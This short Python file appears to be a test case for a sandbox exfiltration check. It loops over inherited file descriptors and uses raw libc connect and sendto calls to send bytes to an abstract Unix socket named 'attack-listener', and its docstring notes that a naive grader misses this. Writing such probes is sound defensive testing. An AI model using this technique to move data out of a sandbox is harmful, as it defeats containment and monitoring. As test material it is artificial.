"""Goal: something leaves the machine over a socket that the process has already.

Control: none, because the naive grader has no socket.
"""
# correct
import ctypes
import socket
import struct


@attempt
def leave():
    libc = ctypes.CDLL(None)
    address = struct.pack("<H", socket.AF_UNIX) + b"\0attack-listener"
    for fd in range(3, 64):
        libc.connect(fd, address, len(address))
        libc.sendto(fd, b"attack channel", 14, 0, address, len(address))
